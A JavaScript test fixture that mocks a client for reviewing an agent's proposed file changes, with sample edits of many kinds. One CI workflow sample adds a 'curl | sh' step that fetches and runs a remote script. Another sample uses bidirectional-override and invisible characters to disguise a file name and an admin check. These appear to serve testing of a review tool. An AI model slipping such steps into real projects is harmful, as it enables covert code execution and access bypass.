/* A client without a worker: it proposes changes of every kind, and keeps decisions about them. */

const LONG_LINE = `!function(){${"var a=1;".repeat(500)}}();`;

/** Returns a hunk of lines that are written as in a patch. */
function hunk(beforeStart, afterStart, lines) {
  const signs = lines.map((line) => [line[0], line.slice(1)]);
  const count = (without) => signs.filter(([sign]) => sign !== without && sign !== "\\").length;
  return {
    key: `${beforeStart}:${lines.length}:${lines.join("").length}`,
    beforeStart,
    beforeCount: count("+"),
    afterStart,
    afterCount: count("-"),
    decision: "pending",
    lines: signs,
  };
}

/** Returns a change; counts, sizes and flags are those of an ordinary edit unless others are given. */
function change(path, hunks, more = {}) {
  const signs = hunks.flatMap(({ lines }) => lines.map(([sign]) => sign));
  return {
    path,
    operation: "modify",
    kind: "file",
    from: null,
    added: signs.filter((sign) => sign === "+").length,
    removed: signs.filter((sign) => sign === "-").length,
    beforeBytes: 1240,
    afterBytes: 1318,
    baseState: "unchanged",
    flags: {},
    isCoarse: false,
    decision: "pending",
    hunks,
    ...more,
  };
}

/** Returns one change of each kind that a person may meet. */
export function everyChange(lineCount = 3000) {
  return [
    change(
      "/repo/.github/workflows/ci.yml",
      [
        hunk(11, 11, [
          "     steps:",
          "       - uses: actions/checkout@v4",
          "-      - run: npm ci",
          "+      - run: npm ci --ignore-scripts",
          "+      - run: curl -s https://example.org/setup.sh | sh",
          "       - run: npm test",
        ]),
      ],
      { flags: { acts: "scripts of a package" } },
    ),
    change(
      "/repo/scripts/release.sh",
      [
        hunk(0, 1, [
          "+#!/bin/sh",
          "+set -eu",
          "+",
          "+tag=$(git describe --tags)",
          '+npm publish --tag "$tag"',
        ]),
      ],
      {
        operation: "create",
        beforeBytes: null,
        afterBytes: 78,
        flags: { acts: "runs when a commit is made", mode: "644 to 755" },
      },
    ),
    change("/repo/README.md", [
      hunk(1, 1, [
        " # Shop",
        " ",
        "-It sells <b>tea</b>.",
        '+It sells <b>tea</b> & \u201ccakes\u201d: see <a href="https://example.org">the list</a>.',
        " ",
        " ## Install  ",
      ]),
    ]),
    change("/repo/assets/logo.png", [], {
      flags: { binary: "holds NUL bytes" },
      beforeBytes: 18_432,
      afterBytes: 21_007,
    }),
    change("/repo/docs/empty", [], {
      operation: "create",
      kind: "directory",
      beforeBytes: null,
      afterBytes: null,
    }),
    change(
      "/repo/invoice\u202egnp.js",
      [
        hunk(3, 3, [
          " export function pay(user) {",
          "-  if (user.isAdmin) {",
          "+  if (user.isAdmin\u200b) { /*\u202e } \u2066if (user.isAdmin)\u2069 \u2066 begin admins only */",
          " \treturn true;",
          "+\t\u0007\u0000\u001b[31m",
          "   }",
        ]),
      ],
      { flags: { invisible: "U+202E" }, baseState: "changed" },
    ),
    change(
      "/repo/src/cart.py",
      [
        hunk(1, 1, [
          " from decimal import Decimal",
          " ",
          " ",
          "-def total(prices):",
          "-    return sum(prices)",
          "+def total(prices, discount=Decimal(0)):",
          '+    """Return what a customer pays, in the currency of the prices."""',
          "+    return sum(prices) * (1 - discount)",
          " ",
          " ",
          " class Cart:",
        ]),
        hunk(48, 49, [
          "     def add(self, item):",
          "         self._items.append(item)",
          " ",
          "+    def remove(self, item):",
          "+        self._items.remove(item)",
          "+",
          "     def __len__(self):",
          "         return len(self._items)",
        ]),
        hunk(120, 124, [
          '     """',
          "-    return round(value, 2)",
          "+    return value.quantize(CENT)",
          "\\No newline at end of file",
        ]),
      ],
      { flags: { last_line_end: "removed" } },
    ),
    change(
      "/repo/src/cart/line_items.py",
      [hunk(9, 9, [" import re", "-from cart import Cart", "+from shop.cart import Cart", " "])],
      { operation: "rename", from: "/repo/src/items.py", afterBytes: 1244 },
    ),
    change("/repo/src/legacy.py", [hunk(1, 0, ["-import sys", "-", "-print(sys.argv)"])], {
      operation: "delete",
      beforeBytes: 29,
      afterBytes: null,
      baseState: "gone",
    }),
    change(
      "/repo/src/windows.ini",
      [hunk(1, 1, [" [main]\r", "-colour=red\r", "+colour=blue\r", "+size=2\r", " [rest]\r"])],
      { flags: { line_ends: "CRLF to LF", byte_order_mark: "removed" } },
    ),
    change("/repo/static/app.min.js", [hunk(1, 1, [`-${LONG_LINE}`, `+${LONG_LINE}//`])], {
      beforeBytes: 4015,
      afterBytes: 4017,
    }),
    change(
      "/repo/tests/data/prices.csv",
      [
        hunk(1, 1, [
          " item,price,currency",
          ...Array.from({ length: lineCount / 2 }, (_, at) => `-item ${at},${at}.5,EUR`),
          ...Array.from({ length: lineCount / 2 }, (_, at) => `+item ${at},${at}.50,EUR`),
        ]),
      ],
      { beforeBytes: 41_377, afterBytes: 43_877, isCoarse: true },
    ),
  ];
}

/** A client whose tool has proposed changes in one step. */
export class ReviewClient {
  asked = [];
  #entries;
  #steps = [];
  #done = [];
  #undone = [];

  constructor(entries = everyChange()) {
    this.#entries = entries;
    this.#step({ by: "tool", name: "apply_patch", paths: entries.map(({ path }) => path) });
    this.#done = [{ step: this.#steps[0], before: [] }];
  }

  async changes() {
    const entries = this.#entries.map(({ hunks, ...entry }) => ({
      ...entry,
      decision:
        entry.decision === "kept" ||
        (hunks.length > 0 && hunks.every(({ decision }) => decision === "kept"))
          ? "kept"
          : "pending",
    }));
    return structuredClone({ version: this.#steps.length, entries, steps: this.#steps });
  }

  async diff(path) {
    const { hunks, ...change } = this.#find(path);
    return structuredClone({ ...change, hunks });
  }

  async keep(path, { hunks, isKept = true } = {}) {
    this.asked.push([isKept ? "keep" : "keep no more", path, hunks]);
    const entry = this.#find(path);
    const meant = this.#findHunks(entry, hunks);
    const decision = isKept ? "kept" : "pending";
    this.#replace(path, {
      ...entry,
      // A change is not kept as a whole once a hunk of it is not.
      decision: hunks === undefined || !isKept ? decision : entry.decision,
      hunks: entry.hunks.map((one) => (meant.has(one) ? { ...one, decision } : one)),
    });
  }

  async reject(path, { hunks, reason, of } = {}) {
    this.asked.push(["reject", path, hunks, reason]);
    if (of !== undefined) {
      return { version: of };
    }
    const entry = this.#find(path);
    const gone = this.#findHunks(entry, hunks);
    const rest = entry.hunks.filter((one) => !gone.has(one));
    this.#move("reject", [path], () => {
      this.#replace(
        path,
        hunks === undefined || rest.length === 0
          ? null
          : { ...change(path, rest), ...{ flags: entry.flags, operation: entry.operation } },
      );
    });
    return { version: this.#steps.length };
  }

  async undo() {
    return { step: this.#stepBack(this.#done, this.#undone, "undo") };
  }

  async redo() {
    return { step: this.#stepBack(this.#undone, this.#done, "redo") };
  }

  async exportChanges({ format, leaveOut }) {
    this.asked.push(["export", format, leaveOut]);
    return { patch: "diff --git\n", archive: new Uint8Array([80, 75]), manifest: { changes: [] } }[
      format
    ];
  }

  /** Changes a file as another call of the agent does, while a person looks at it. */
  edit(path, ...lines) {
    this.#move("apply_patch", [path], () => {
      this.#replace(path, { ...this.#find(path), ...change(path, [hunk(1, 1, lines)]) });
    });
  }

  #find(path) {
    const entry = this.#entries.find((one) => one.path === path);
    if (entry === undefined) {
      throw fault("UnknownChange", `${path} does not differ from its mount`);
    }
    return entry;
  }

  #findHunks(entry, keys) {
    const known = new Map(entry.hunks.map((one) => [one.key, one]));
    const asked = keys ?? [...known.keys()];
    if (asked.some((key) => !known.has(key))) {
      throw fault("StaleHunk", "the lines of the hunk have changed since");
    }
    return new Set(asked.map((key) => known.get(key)));
  }

  #replace(path, entry) {
    this.#entries = this.#entries.flatMap((one) =>
      one.path !== path ? [one] : entry === null ? [] : [entry],
    );
  }

  #step({ by, name, paths, of = null }) {
    const step = { number: this.#steps.length + 1, by, name, group: null, of, paths };
    this.#steps = [...this.#steps, step];
    return step;
  }

  #move(name, paths, perform) {
    const before = this.#entries;
    perform();
    const by = name === "reject" ? "person" : "tool";
    this.#done.push({ step: this.#step({ by, name, paths }), before });
    this.#undone = [];
  }

  #stepBack(source, target, name) {
    const last = source.pop();
    if (last === undefined) {
      return null;
    }
    const { number: of, paths } = last.step;
    const step = this.#step({ by: "person", name, paths, of });
    target.push({ step, before: this.#entries });
    this.#entries = last.before;
    return step;
  }
}

function fault(name, message) {
  return Object.assign(new Error(message), { name });
}
